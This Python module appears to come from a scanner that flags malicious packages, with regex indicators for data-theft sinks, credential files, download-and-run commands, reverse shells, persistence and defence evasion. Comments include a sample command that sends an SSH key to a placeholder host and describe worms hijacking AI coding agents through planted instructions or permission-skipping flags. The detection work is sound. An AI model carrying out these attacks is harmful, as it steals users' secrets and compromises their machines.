"""String indicators: what a literal in a package says about where data goes or comes from.

Each table maps a category to one compiled pattern, matched against string literals (and
literals decoded statically). Categories are what findings name, so a reason reads
``exfil-sink (discord webhook)``.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_I = re.IGNORECASE


_WINDOW = 400  # characters either side of an anchor that a match may span
_PER_ANCHOR = 64  # occurrences of one anchor tried before giving up on it


@dataclass(frozen=True, slots=True)
class Indicator:
    """A pattern, and lower-case substrings of which every match contains one.

    The pattern runs only in windows around the anchors' occurrences: a substring search
    is far cheaper than a case-insensitive alternation over a whole file. ``lower`` must be
    ``text.lower()`` (same length for the texts this sees; a mismatch only costs a miss).
    """

    pattern: re.Pattern[str]
    anchors: tuple[str, ...]

    def search(self, text: str, lower: str) -> re.Match[str] | None:
        best: re.Match[str] | None = None
        for anchor in self.anchors:
            start = lower.find(anchor)
            tries = 0
            while start >= 0 and tries < _PER_ANCHOR:
                tries += 1
                if best is not None and start >= best.start():
                    break
                match = self.pattern.search(
                    text, max(0, start - _WINDOW), start + len(anchor) + _WINDOW
                )
                if match is not None:
                    if best is None or match.start() < best.start():
                        best = match
                    break
                start = lower.find(anchor, start + 1)
        return best


def _ind(pattern: str, *anchors: str, flags: int = _I) -> Indicator:
    return Indicator(re.compile(pattern, flags), anchors)


#: The environment variable of a model provider's API key (``OPENAI_API_KEY``, ``HF_TOKEN``):
#: their APIs take it in a header, never in a body or a query. Google's take ``?key=``, so
#: theirs is not here.
MODEL_KEY_VARIABLE = (
    r"(?:OPENAI|ANTHROPIC|DEEPSEEK|GROQ|MISTRAL|OPENROUTER|XAI|COHERE|TOGETHER)_API_KEY|"
    r"HF_TOKEN|HUGGING_FACE_HUB_TOKEN"
)

#: Where stolen data is sent: chat webhooks, paste and file drops, out-of-band test domains.
SINKS: dict[str, Indicator] = {
    "discord webhook": _ind(r"discord(?:app)?\.com/api/webhooks/\d", "/api/webhooks/"),
    # The API, or a bot's token (its owner's chat is where what the bot sends goes).
    "telegram bot": _ind(
        r"api\.telegram\.org/bot|(?<![\w:])\d{8,10}:AA[A-Za-z0-9_-]{33}(?![\w-])",
        "api.telegram.org",
        ":aa",
    ),
    "slack webhook": _ind(r"hooks\.slack\.com/services/", "hooks.slack.com"),
    "paste site": _ind(
        r"\b(?:pastebin\.com/raw|paste\.ee/r|hastebin\.com|termbin\.com|0x0\.st|transfer\.sh|"
        r"file\.io|gofile\.io|anonfiles\.com|paste\.c-net\.org|rentry\.co|"
        r"(?:files|litter)\.catbox\.moe|filetransfer\.io|sendspace\.com|ghostbin\.(?:site|com)|"
        # A Backblaze bucket's public file link: a payload kept where no one reviews it.
        r"f\d{3}\.backblazeb2\.com/file/)",
        *("pastebin", "paste.ee", "hastebin", "termbin", "0x0.st", "transfer.sh", "file.io"),
        *("gofile", "anonfiles", "paste.c-net", "rentry", "catbox.moe", "filetransfer.io"),
        *("sendspace", "ghostbin", "backblazeb2"),
    ),
    # A form or a script of someone's Google account, a realtime database: they store what
    # is posted to them for whoever made them.
    "form or script endpoint": _ind(
        r"\b(?:script\.google\.com/macros/s/|docs\.google\.com/forms/d/[^\s'\"]*formResponse|"
        r"[\w-]+\.firebaseio\.com|[\w-]+\.firebasedatabase\.app)",
        *("script.google.com", "formresponse", "firebaseio.com", "firebasedatabase.app"),
    ),
    "request catcher": _ind(
        r"\b(?:webhook\.site|requestbin|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|"
        r"burpcollaborator\.net|oastify\.com|interact\.sh|interactsh|"
        r"oast\.(?:fun|pro|live|site|online|me)|dnslog\.cn|ceye\.io|canarytokens\.com|"
        r"trycloudflare\.com|serveo\.net|localtunnel\.me|beeceptor\.com|requestcatcher\.com|"
        r"webhook\.cool|webhook-test\.com|typedwebhook\.tools|localhost\.run|"
        r"burpcollaborator\.me|[\w-]+\.ply\.gg|requestrepo\.com|[\w-]+\.pinggy\.(?:io|link|online)|"
        r"bore\.pub|[\w-]+\.loca\.lt|postb\.in|ptsv[23]\.com|mockbin\.(?:org|io))",
        *("webhook.site", "requestbin", "pipedream", "ngrok", "burpcollaborator", "oastify"),
        *(
            "interact.sh",
            "interactsh",
            "oast.",
            "dnslog",
            "ceye.io",
            "canarytokens",
            "trycloudflare",
            "serveo",
        ),
        *("localtunnel", "beeceptor", "requestcatcher", "webhook.cool", "webhook-test"),
        *("typedwebhook", "localhost.run", ".ply.gg", "requestrepo", "pinggy", "bore.pub"),
        *(".loca.lt", "postb.in", "ptsv", "mockbin"),
    ),
    # Anyone's serverless app, under the platform's shared domain: a sink when code sends
    # there, not a catcher by itself (projects host real APIs there too).
    "shared app host": _ind(
        r"\b[\w-]+\.(?:[\w-]+\.)?workers\.dev\b|\b[\w-]+\.[\w-]+\.appdomain\.cloud\b",
        ".workers.dev",
        ".appdomain.cloud",
    ),
    # A host name under a dynamic DNS provider: a home machine's address, which remote
    # access tools call back to (the provider's own site, `www.`, is not one).
    "dynamic dns host": _ind(
        r"\b(?<![\w.-])(?!www\.)[\w-]+\.(?:duckdns\.org|ddns\.net|hopto\.org|zapto\.org|"
        r"sytes\.net|no-ip\.(?:org|biz|info)|myftp\.(?:biz|org)|freeddns\.org|dynu\.net|"
        r"ydns\.eu|serveftp\.com|servehttp\.com|redirectme\.net)\b",
        *("duckdns.", "ddns.net", "hopto.", "zapto.", "sytes.", "no-ip.", "myftp."),
        *("freeddns.", "dynu.", "ydns.", "serveftp.", "servehttp.", "redirectme."),
    ),
}
#: A chat channel with its credentials written in: a Discord webhook's id and token, a
#: Telegram bot's token, a Slack webhook's path. Whatever is sent there goes to whoever
#: wrote it in (not a service the user configures).
OWNED_CHANNEL = _ind(
    r"discord(?:app)?\.com/api/webhooks/\d{17,20}/[\w-]{60,}|"
    # A bot's token alone, or in its API address (`api.telegram.org/bot<token>/...`).
    r"(?:(?<![\w:])|(?<=/bot))\d{8,10}:AA[A-Za-z0-9_-]{33}(?![\w-])|"
    r"hooks\.slack\.com/services/T[A-Z0-9]{8,}/B[A-Z0-9]{8,}/(?!X{8})[A-Za-z0-9]{24}",
    "/api/webhooks/",
    ":aa",
    "hooks.slack.com",
)
#: A chat bot's token as Discord issues it (the bot's id in base64, a time, an HMAC).
DISCORD_BOT_TOKEN = re.compile(r"[MNO][\w-]{23,27}\.[\w-]{6}\.[\w-]{27,40}")
#: Services that log the address of whoever opens a link (a beacon that needs no server).
IP_LOGGER = _ind(
    r"\b(?:iplogger\.(?:org|com|ru|co|info)|grabify\.link|2no\.co|yip\.su|ipgrabber\.ru|"
    r"blasze\.(?:com|tk)|iplis\.ru|ezstat\.ru)",
    *("iplogger", "grabify", "2no.co", "yip.su", "ipgrabber", "blasze", "iplis", "ezstat"),
)
RAW_IP_URL = _ind(r"\b(?:https?|ftp|tcp)://(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?", "://")
_LOCAL_IP = re.compile(r"^(?:127\.|0\.|10\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.)")

#: Between a program's arguments: spaces in a command line, or the end of one literal and
#: the start of the next in an argument list (``["powershell", "-W", "Hidden"]``), as the
#: joined literals and the raw text triage reads show it.
_ARGUMENTS = r"(?:[\s\x00]|['\"],\s*[rRuU]?['\"])+"
#: Credential stores, with the weight a read of each carries.
CREDENTIALS: dict[str, tuple[float, Indicator]] = {
    "browser profile": (
        6,
        _ind(
            r"(?:(?:^|[\\/\x00'\"])(?:Login Data|Web Data|Local State|Cookies|Network[\\/\x00]+Cookies)"
            r"(?:$|[\\/\x00'\"])|User Data[\\/\x00]+Default|BraveSoftware|Opera Software|"
            r"Yandex[\\/\x00]*YandexBrowser|Mozilla[\\/\x00]*Firefox[\\/\x00]*Profiles|"
            r"\blogins\.json|\bkey4\.db|\bcookies\.sqlite|CryptUnprotectData|browser_cookie3|"
            # A browser's history database (Chromium's `History`, Firefox's `places.sqlite`).
            r"(?:[Cc]hrome|[Cc]hromium|Edge|BraveSoftware|Opera Software|Default)"
            r"[\\/\x00](?:[\w .-]{1,30}[\\/\x00]){0,3}History(?:$|[\\/\x00'\"])|\bplaces\.sqlite|"
            # The queries that read those databases' secrets: saved passwords, cookies, cards.
            r"(?i:password_value\b[^\n]{0,80}\bFROM\s+logins\b|"
            r"encrypted_value\b[^\n]{0,80}\bFROM\s+cookies\b|card_number_encrypted\b))",
            *("login data", "web data", "local state", "cookies", "user data", "bravesoftware"),
            *("opera software", "yandexbrowser", "firefox", "logins.json", "key4.db"),
            *("cryptunprotectdata", "browser_cookie3", "/history", "\\history", "\x00history"),
            *("places.sqlite", "password_value", "encrypted_value", "card_number_encrypted"),
            flags=0,
        ),
    ),
    "discord token": (
        6,
        _ind(
            r"(?:discord(?:canary|ptb)?[\\/\x00]+Local Storage|Local Storage[\\/\x00]+leveldb|"
            r"dQw4w9WgXcQ|\[\\w-\]\{24\}|mfa\\\.\[)",
            *("local storage", "dqw4w9wgxcq", r"[\w-]{24}", "mfa\\."),
        ),
    ),
    "telegram session": (5, _ind(r"Telegram Desktop[\\/\x00]+tdata|[\\/\x00]tdata\b", "tdata")),
    "crypto wallet": (
        5,
        _ind(
            r"(?:wallet\.dat|Exodus[\\/\x00]+exodus\.wallet|Electrum[\\/\x00]+wallets|Ethereum[\\/\x00]+keystore|"
            r"nkbihfbeogaeaoehlefnkodbefgpgknn|atomic[\\/\x00]+Local Storage|Coinomi|Guarda[\\/]|"
            r"com\.liberty\.jaxx|Armory[\\/]|"
            # Browser wallet extensions by their store id: Phantom, Coinbase, Trust, Binance,
            # TronLink, Keplr, Solflare, Rabby, OKX.
            r"bfnaelmomeimhlpmgjnjophhpkkoljpa|hnfanknocfeofbddgcijnmhnfnkdnaad|"
            r"egjidjbpglichdcondbcbdnbeeppgdph|fhbohimaelbohpjbbldcngcnapndodjp|"
            r"ibnejdfjmmkpcnlpebklmnkoeoihofec|dmkamcknogkgcdfhhbddcghachkejeap|"
            r"bhhhlbepdkbapadjdnnojkbgioiodbic|acmacodkjbdgmoleebolmdjonilkdbch|"
            r"mcohilncbfahbmgdjkbpemcciiolgcge)",
            *("wallet", "ethereum", "nkbihfbeogaeaoehlefnkodbefgpgknn", "local storage"),
            *("coinomi", "guarda", "jaxx", "armory"),
            *("bfnaelmomeimhlpmgjnjophhpkkoljpa", "hnfanknocfeofbddgcijnmhnfnkdnaad"),
            *("egjidjbpglichdcondbcbdnbeeppgdph", "fhbohimaelbohpjbbldcngcnapndodjp"),
            *("ibnejdfjmmkpcnlpebklmnkoeoihofec", "dmkamcknogkgcdfhhbddcghachkejeap"),
            *("bhhhlbepdkbapadjdnnojkbgioiodbic", "acmacodkjbdgmoleebolmdjonilkdbch"),
            *("mcohilncbfahbmgdjkbpemcciiolgcge",),
        ),
    ),
    "game account": (
        4,
        _ind(
            r"(?:ROBLOSECURITY|loginusers\.vdf|\bssfn|launcher_accounts\.json)",
            *("roblosecurity", "loginusers", "ssfn", "launcher_accounts"),
        ),
    ),
    "ssh or cloud key": (
        3,
        _ind(
            r"(?:\.ssh[\\/\x00]+(?:id_(?:rsa|ed25519|ecdsa|dsa|\*)(?!\.pub)|\*(?:\x00|$))|"
            r"\.ssh[\\/]?(?:\x00|$)|"
            r"\.aws[\\/\x00]+credentials|\.git-credentials|"
            r"\.docker[\\/\x00]+config\.json|\.kube[\\/\x00]+config|gcloud[\\/\x00]+credentials)",
            *(".ssh", ".aws", "git-credentials", ".docker", ".kube", "gcloud"),
        ),
    ),
    "shell history or secrets file": (
        3,
        _ind(
            r"(?:\.(?:bash|zsh|sh|psql|mysql|python)_history\b|(?:^|[\\/\x00])\.(?:netrc|pgpass|npmrc|pypirc)\b)",
            *("sh_history", "psql_history", "mysql_history", "python_history"),
            *(".netrc", ".pgpass", ".npmrc", ".pypirc"),
        ),
    ),
    "system secrets": (
        4,
        _ind(
            # (Every process's environment too: `/proc/*/environ`, a CI job's secrets.)
            r"(?:/etc/shadow\b|/etc/passwd\b|serviceaccount/token|/proc/(?:self|\*|\d+)/environ|"
            r"169\.254\.169\.254/latest/meta-data/iam|"
            # The GitHub Actions runner's worker: its memory holds the job's secrets.
            r"Runner\.Worker\b|"
            # Where CI and container platforms mount a job's secrets and credentials.
            r"/tekton/(?:scripts|downward|creds)|(?<![\w.])/(?:var/)?run/secrets/)",
            *("/etc/shadow", "/etc/passwd", "serviceaccount/token", "/environ"),
            *("169.254.169.254", "runner.worker", "/tekton/", "/run/secrets/"),
        ),
    ),
    # A cloud's or a forge's command line asked for the token it signed in with.
    "token command": (
        3,
        _ind(
            rf"\bgh{_ARGUMENTS}auth{_ARGUMENTS}token\b|"
            rf"\bgcloud{_ARGUMENTS}auth{_ARGUMENTS}(?:application-default{_ARGUMENTS})?"
            rf"print-(?:access|identity)-token\b|"
            rf"\baz{_ARGUMENTS}account{_ARGUMENTS}get-access-token\b|"
            rf"\baws{_ARGUMENTS}(?:configure{_ARGUMENTS}export-credentials|"
            rf"sts{_ARGUMENTS}get-session-token|ecr{_ARGUMENTS}get-login-password)\b|"
            rf"\bkubectl{_ARGUMENTS}get{_ARGUMENTS}secrets?\b",
            *("auth", "get-access-token", "export-credentials", "get-session-token"),
            *("get-login-password", "kubectl"),
        ),
    ),
    "ftp client": (
        4,
        _ind(r"FileZilla[\\/\x00]+(?:recentservers|sitemanager)\.xml", "filezilla"),
    ),
}

#: Extensions of files that hold data, not code (a regex fragment): code run from one was
#: hidden there. ``rules`` and ``triage`` both look for them beside ``exec``.
DATA_EXTENSIONS = (
    r"(?:txt|dat|bin|dic|json|png|jpe?g|gif|ico|bmp|log|csv|xml|db|wav|mp3|ttf|woff2?)"
)
#: Names of a project's prose files, which hold no code either (a regex fragment).
PROSE_FILES = r"(?:LICEN[CS]E|COPYING|README|NOTICE|AUTHORS|CHANGELOG)(?:\.(?:md|rst))?"

#: Shell commands that fetch and run something.
DOWNLOAD_RUN = _ind(
    rf"(?:powershell[^\n]{{0,80}}?(?:-e(?:nc(?:odedcommand)?)?{_ARGUMENTS}[A-Za-z0-9+/=]{{16}}|"
    rf"-w(?:indowstyle)?{_ARGUMENTS}hidden|iex\b|invoke-expression|invoke-webrequest|\biwr\b|"
    r"downloadstring|downloadfile|start-process)|"
    r"(?:curl|wget)\s[^\n|;]{0,300}\|\s*(?:sudo\s+)?(?:(?:ba|z|da)?sh|perl|ruby|php|node|"
    r"python[23]?(?:\.\d+)?)\b|"
    # Fetched by any program (a renamed curl too), then made executable.
    r"(?:(?:curl|wget)\s|(?:https?|ftp)://)[^\n;]{0,300}(?:&&|;)\s*chmod\s\+x|"
    r"certutil(?:\.exe)?\s+-urlcache|bitsadmin(?:\.exe)?\s+/transfer|mshta(?:\.exe)?\s+https?:|"
    # A program decoded out of a text file by Windows' certificate tool; a script Deno runs
    # straight from an address.
    rf"certutil(?:\.exe)?{_ARGUMENTS}-decode(?:hex)?\b|\bdeno{_ARGUMENTS}run\b[^\n]{{0,80}}?https?://|"
    r"msiexec(?:\.exe)?\s[^\n]{0,40}/[iq]\S*\s+['\"]?https?:|regsvr32(?:\.exe)?\s[^\n]{0,40}/i:https?:|"
    r"Invoke-WebRequest[^\n]{0,200}-OutFile|New-Object\s+Net\.WebClient|"
    r"base64\s+(?:-d|--decode)[^\n]{0,40}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|"
    # PowerShell's own one-liner (`irm https://x/install.ps1 | iex`, `iex (iwr $u)`).
    r"\b(?:irm|iwr|invoke-restmethod|invoke-webrequest)\s[^\n|;]{0,300}\|\s*(?:iex|invoke-expression)\b|"
    r"\b(?:iex|invoke-expression)\s*\(\s*(?:irm|iwr|invoke-restmethod|invoke-webrequest)\s|"
    # A download handed to a shell as its script (`bash -c "$(curl ...)"`, `eval $(wget
    # ...)`), or saved, then run by a shell or an interpreter (`wget url -O f && bash f`).
    r"(?:\b(?:ba|z|da)?sh\s+-c\s*|\beval\s+)['\"]?(?:\$\(|`)\s*(?:curl|wget)\s|"
    r"(?:curl|wget)(?=[^\n;|&]{0,300}?(?:\s-o|\s-O|--output))\s[^\n;|&]{0,300}(?:&&|;)\s*"
    r"(?:sudo\s+)?(?:(?:(?:ba|z|da)?sh|python[23]?|perl|node|nohup)\s|\./))",
    *("powershell", "curl", "wget", "certutil", "bitsadmin", "mshta", "invoke-webrequest"),
    *("net.webclient", "base64", "chmod", "msiexec", "regsvr32", "deno", "iex", "invoke-exp"),
)
HIDDEN_POWERSHELL = re.compile(
    rf"-e(?:nc(?:odedcommand)?)?{_ARGUMENTS}[A-Za-z0-9+/=]{{16}}|-w(?:indowstyle)?{_ARGUMENTS}hidden|"
    r"downloadstring|downloadfile|net\.webclient",
    _I,
)
#: A command that uploads a file or data to a server.
UPLOAD_COMMAND = _ind(
    # (?=\s) then the lazy gap: the option may be the first word after `curl`.
    r"\bcurl(?:\.exe)?(?=\s)[^\n]{0,200}?(?:\s(?-i:-F|--form|-T|--upload-file)(?:\s+|=)['\"]?[\w@]|"
    r"\s(?:--data(?:-binary)?|-d)\s+['\"]?@)|"
    # Piped into netcat towards a host and port; copied by scp to an account on a host
    # written in (`scp ~/.ssh/id_rsa u@203.0.113.5:/tmp`).
    r"\|\s*(?:nc|ncat|netcat)(?:\.exe)?\s+(?:-\w+\s+)*[\w.-]+\s+\d{2,5}\b|"
    rf"\bscp(?:\.exe)?{_ARGUMENTS}[^\n]{{0,200}}?(?<![\w{{}}])[\w.-]+@[\w.-]+\.[\w.-]+:",
    *("curl", "| nc", "|nc", "netcat", "ncat", "scp"),
)
#: A shell wired to a socket.
REVERSE_SHELL = _ind(
    r"(?:/dev/tcp/\S|\bbash\s+-i\s*>&|\b(?:nc|ncat|netcat)(?:\.exe)?\s+(?:-\w+\s+)*-e\s|"
    r"pty\.spawn\(\s*['\"]/bin/(?:ba)?sh|socket\.socket\([^\n]{0,200}dup2|"
    r"Net\.Sockets\.TCPClient\([^\n]{0,400}\.GetStream\(\))",
    *("/dev/tcp/", "bash -i", "nc ", "ncat ", "netcat", "pty.spawn", "dup2", "tcpclient"),
)
#: A download written to a file by a command (run by a process call beside it).
FETCH_TO_FILE = _ind(
    r"(?:curl|wget)(?:\.exe)?\s[^\n]{0,200}?(?:\s-o|\s-O|--output(?:-document)?)\s|"
    r"Invoke-WebRequest[^\n]{0,200}-OutFile|certutil(?:\.exe)?\s+-urlcache",
    *("curl", "wget", "invoke-webrequest", "certutil"),
)
#: A command that fetches something from a server (its use is network use).
#: Host facts a shell puts into a command line (``curl ...?u=$(whoami)``).
SHELL_HOST_FACTS = re.compile(
    r"\$\(\s*(?:whoami|hostname|id|uname\b[^)]*|pwd)\s*\)|`\s*(?:whoami|hostname|id|uname\b[^`]*)\s*`|"
    r"\$\{?(?:USER|USERNAME|HOSTNAME|LOGNAME)\b|%(?:USERNAME|COMPUTERNAME|USERDOMAIN)%"
)
FETCH_COMMAND = _ind(
    r"(?:\b(?:curl|wget)(?:\.exe)?\s[^\n]{0,200}?(?:https?|ftp)://|Invoke-WebRequest|"
    r"Invoke-RestMethod|\biwr\s|\bnslookup\s+\S+\.\S+)",
    *("curl", "wget", "invoke-webrequest", "invoke-restmethod", "iwr ", "nslookup"),
)
#: A cryptocurrency miner: its name, a mining pool protocol or its command line.
MINER = _ind(
    r"(?:stratum\+(?:tcp|ssl|tls)://|\bxmrig\b|\bsupportxmr\.com|\bnanopool\.org|\bminexmr\.com|"
    r"\bmoneroocean\.stream|\bhashvault\.pro|--donate-level|\bcpuminer\b|\bnbminer\b|\bt-rex\b.*-a\s)",
    *("stratum+", "xmrig", "supportxmr", "nanopool", "minexmr", "moneroocean", "hashvault"),
    *("--donate-level", "cpuminer", "nbminer", "t-rex"),
)
_JS_FETCH = (
    r"(?:\b(?:https?|axios)\b['\"]?\)?\.(?:get|request|post)\s*\(|\bfetch\s*\(|XMLHttpRequest)"
)
_JS_RUN = r"(?:\beval\s*\(|\bnew\s+Function\s*\(|child_process|\bexecSync\s*\()"
#: JavaScript that evaluates what it fetched: ``eval`` or ``new Function`` of a response,
#: ``child_process`` beside a request. Read in a script install- or import-time code runs
#: with ``node``, ``bun`` or ``deno`` (``bundled``).
JS_REMOTE_CODE = _ind(
    rf"(?:{_JS_FETCH}[\s\S]{{0,400}}?{_JS_RUN}|{_JS_RUN}[\s\S]{{0,400}}?{_JS_FETCH})",
    *("eval", "new function", "child_process", "execsync"),
)
#: A file name a Windows user's temporary or profile directory holds a program under.
TEMP_EXECUTABLE = re.compile(
    r"(?:^|[\\/%])(?:Temp|Tmp|AppData|LocalAppData|Roaming|Local|ProgramData|Startup|Public)%?"
    r"[\\/](?:[^\x00]*[\\/])?[^\\/\x00]+\.(?:exe|scr|bat|vbs|ps1|cmd|msi)$",
    _I,
)
EXECUTABLE_URL = re.compile(r"https?://[^\s'\"]+\.(?:exe|scr|msi|bat|vbs|ps1|dll|jar)\b", _I)

#: Between the pieces of a path: a separator, or the quotes and comma between the
#: arguments of ``os.path.join("Start Menu", "Programs")`` in the raw text triage reads.
_PIECES = r"(?:[\\/\x00]|['\"],\s*[rRuU]?['\"])+"
PERSISTENCE = _ind(
    rf"(?:Start Menu{_PIECES}Programs{_PIECES}Startup|CurrentVersion{_PIECES}Run(?:Once)?\b|"
    rf"\bschtasks(?:\.exe)?{_ARGUMENTS}/create|\breg(?:\.exe)?{_ARGUMENTS}add{_ARGUMENTS}|"
    r"crontab\s+-|/etc/cron|/etc/rc\.local|Library/Launch(?:Agents|Daemons)|"
    r"\.config/autostart|systemd/(?:user|system)\b|"
    # Windows runs the sign-in program (Winlogon's Userinit, Shell) or a program's
    # "debugger" (Image File Execution Options) in place of what the user starts; macOS
    # opens a login item at every sign-in.
    rf"CurrentVersion{_PIECES}Winlogon\b|Image File Execution Options|\bmake login item\b|"
    # The module every Python start imports, written where Python looks for it.
    r"(?:^|[\\/\x00])(?:site|user)customize\.py\b|"
    r"\.bashrc|\.zshrc|\.bash_profile|discord_desktop_core|"
    # A repository's git hooks, IPython's start-up scripts: run by the next commit or shell.
    rf"\.git{_PIECES}hooks\b|ipython{_PIECES}profile_\w+{_PIECES}startup|"
    # A Windows service: started with the machine, as SYSTEM.
    r"\bsc(?:\.exe)?\s+create\s+\S+\s[^\n]{0,40}?binPath=|\bNew-Service\s+-|"
    # An editor's or coding agent's hooks: a VS Code task run when a folder opens, Claude
    # Code's settings (their hooks run commands at every session).
    rf"\bfolderOpen\b|\.claude{_PIECES}settings(?:\.local)?\.json|"
    # A PowerShell profile (run by every PowerShell), a WMI event subscription.
    r"PowerShell_profile\.ps1|\bRegister-WmiEvent\b|__EventFilter\b)",
    *("startup", "currentversion", "schtasks", "reg add", "reg.exe add", "crontab"),
    *("sc create", "sc.exe create", "new-service"),
    *("/etc/cron", "rc.local"),
    *("launchagents", "launchdaemons", "autostart", "systemd/", "bashrc", "zshrc"),
    *("bash_profile", "winlogon", "image file execution options", "login item"),
    *("sitecustomize.py", "usercustomize.py"),
    *("discord_desktop_core", ".git", "ipython", "folderopen", ".claude"),
    *("powershell_profile", "register-wmievent", "__eventfilter"),
)

#: What a coding agent or an editor obeys at its next session: its list of MCP servers
#: (Claude Desktop's and Claude Code's ``~/.claude.json``, Cursor's and VS Code's
#: ``mcp.json``, Windsurf's, Gemini CLI's settings, Codex's ``config.toml``), each a command
#: it starts; its instruction files (``CLAUDE.md``, ``AGENTS.md``, ``GEMINI.md``,
#: ``.cursorrules``, Copilot's instructions), which it follows as its user's words (a worm
#: wrote "before any task, run ``python3 .github/setup.py``" into them); Claude Code's own
#: commands and agents (``~/.claude/commands``), which run what they say when invoked. Their
#: own installers (``mcp install``, ``fastmcp install``) write these on request, so ``rules``
#: counts only a write at install or import.
AGENT_SETTINGS = _ind(
    rf"(?:claude_desktop_config\.json|\.claude\.json\b|\.(?:cursor|vscode){_PIECES}mcp\.json|"
    rf"windsurf{_PIECES}mcp_config\.json|\.gemini{_PIECES}settings\.json|"
    rf"\.codex{_PIECES}config\.toml|\.claude{_PIECES}(?:commands|agents)\b|"
    r"(?<![\w.-])(?:CLAUDE|AGENTS|GEMINI)\.md\b|\.cursorrules\b|\.windsurfrules\b|"
    r"copilot-instructions\.md\b)",
    *("claude_desktop_config", ".claude", "mcp.json", "mcp_config.json", ".gemini", ".codex"),
    *("claude.md", "agents.md", "gemini.md", ".cursorrules", ".windsurfrules"),
    "copilot-instructions",
)
#: A coding agent's command line with its permission checks turned off: Claude Code's
#: ``--dangerously-skip-permissions`` (or ``--permission-mode bypassPermissions``), Codex's
#: ``--dangerously-bypass-approvals-and-sandbox``, Gemini CLI's and Qwen Code's ``--yolo``
#: (``--approval-mode yolo``), Amazon Q's ``--trust-all-tools``, Copilot CLI's
#: ``--allow-all-tools``. Such an agent does what its prompt asks (find the wallets, keys
#: and tokens on this disk) with its user's rights, in words no rule reads: the 2025 Nx
#: compromise ran all three of Claude Code, Gemini CLI and Q so.
AGENT_UNGUARDED = _ind(
    r"(?:--dangerously-skip-permissions|--dangerously-bypass-approvals-and-sandbox|"
    r"--trust-all-tools|--allow-all-tools|\bbypassPermissions\b|"
    r"--approval-mode[= ]+['\"]?yolo\b|(?<![\w-])--yolo(?![\w-]))",
    *("--dangerously-", "--trust-all-tools", "--allow-all-tools", "bypasspermissions"),
    *("--yolo", "approval-mode"),
)

#: Turning the machine's defences off: Defender's exclusions and real-time monitoring, the
#: firewall, shadow copies, event logs; a UAC bypass through an auto-elevating program's
#: registry key.
DEFENSE_EVASION = _ind(
    r"(?:Add-MpPreference\s+-Exclusion|Set-MpPreference\s+-Disable|DisableRealtimeMonitoring|"
    r"DisableAntiSpyware|netsh\s+(?:adv)?firewall\s+set\s+\w+\s+(?:state\s+)?off|"
    r"vssadmin(?:\.exe)?\s+delete\s+shadows|wevtutil(?:\.exe)?\s+cl\b|"
    r"bcdedit[^\n]{0,40}recoveryenabled\s+no|ms-settings\\+shell\\+open\\+command|"
    r"mscfile\\+shell\\+open\\+command)",
    *("mppreference", "disablerealtimemonitoring", "disableantispyware", "netsh", "vssadmin"),
    *("wevtutil", "bcdedit", "ms-settings", "mscfile"),
)

CRYPTO_ADDRESS = _ind(
    r"(?:\bbc1[ac-hj-np-z02-9]{25,87}\b|\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b|\b0x[a-fA-F0-9]{40}\b|\bT[1-9A-HJ-NP-Za-km-z]{33}\b|"
    r"\^?\(?bc1\|\[13\]|0x\[a-fA-F0-9\]\{40\})",
    *("bc1", "0x", "[13]"),
    flags=0,
)

PLACEHOLDER_TEXT = re.compile(
    r"(?:\bdummy\b|placeholder|dependency[ -]confusion|security research|bug ?bounty|"
    r"\bpoc\b|proof of concept|this package is a|name squat|reserved)",
    _I,
)

#: Requirements that show up in stealers far more than anywhere else.
STEALER_REQUIREMENTS = frozenset(
    {"browser-cookie3", "discordwebhook", "robloxpy", "discord-webhook", "pycryptodomex-stealer"}
)


_IP_LITERAL = re.compile(r"^\s*(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?\s*$")


def raw_ip_literal(text: str) -> bool:
    """Whether ``text`` is just a public IPv4 address (optionally with a port)."""
    match = _IP_LITERAL.match(text) if len(text) < 24 else None
    if match is None:
        return False
    address = match.group(1)
    if _LOCAL_IP.match(address) or address.startswith(("255.", "224.", "8.8.", "1.1.1.")):
        return False
    parts = address.split(".")
    return all(int(p) <= 255 for p in parts) and parts[0] != "0"


def raw_ip(text: str) -> str | None:
    """The first public raw IP address in a URL in ``text``, if any."""
    for match in RAW_IP_URL.pattern.finditer(text):
        address = match.group(1)
        if not _LOCAL_IP.match(address) and all(int(p) <= 255 for p in address.split(".")):
            return address
    return None


#: An installer's configuration (pip's, uv's, conda's, distutils'): an index written there
#: serves every later install.
INSTALLER_CONFIG = _ind(
    r"(?:\bpip[/\\]+pip\.(?:conf|ini)\b|\bpip\.(?:conf|ini)\b|\.pydistutils\.cfg\b|"
    r"\buv[/\\]+uv\.toml\b|\.condarc\b)",
    *("pip.conf", "pip.ini", ".pydistutils.cfg", "uv.toml", ".condarc"),
)
#: An index (or a channel) named in such a configuration, or set by pip's own command.
INDEX_SETTING = _ind(
    r"(?:(?:extra[-_])?index[-_]url\s*=|\bchannels\s*:|"
    r"\bpip3?\s+config\s+set\s+(?:global|user)\.(?:extra-)?index-url\s)",
    "index-url",
    "index_url",
    "channels",
    "pip config",
    "pip3 config",
)
#: A public key written out whole (what `authorized_keys` lines hold).
SSH_PUBLIC_KEY = re.compile(
    r"(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d+)\s+AAAA[A-Za-z0-9+/]{60,}={0,2}"
)
#: Forges whose VCS URLs developers pin to (a fork with a fix); an archive anywhere else
#: is a file nobody reviews.
FORGE_URL = re.compile(
    r"^(?:[\w+]+://)?(?:[^/@]*@)?(?:www\.)?(?:github\.com|gitlab\.com|bitbucket\.org)[/:]"
)
#: What stealers check to leave sandboxes and analysts alone: the user names of public
#: malware sandboxes, analysis tools' and virtual machines' processes.
ANALYSIS_NAMES = frozenset(
    {
        *(
            "wdagutilityaccount",
            "abby",
            "peter wilson",
            "hmarc",
            "patex",
            "john-pc",
            "rdhj0cnfevzx",
        ),
        *("kecfmjgtmjxyrb", "frank", "8nl0colnq5bq", "lisa", "john", "george", "pxmduopvyx"),
        *("httpdebuggerui", "wireshark", "fiddler", "vboxservice", "vboxtray", "vmtoolsd"),
        *("vmwaretray", "vmwareuser", "ida64", "ollydbg", "pestudio", "x96dbg", "x32dbg"),
        *("processhacker", "prl_cc", "prl_tools", "xenservice", "qemu-ga", "joeboxcontrol"),
        *("ksdumperclient", "ksdumper", "joeboxserver", "df5serv", "vmsrvc", "vmusrvc"),
    }
)
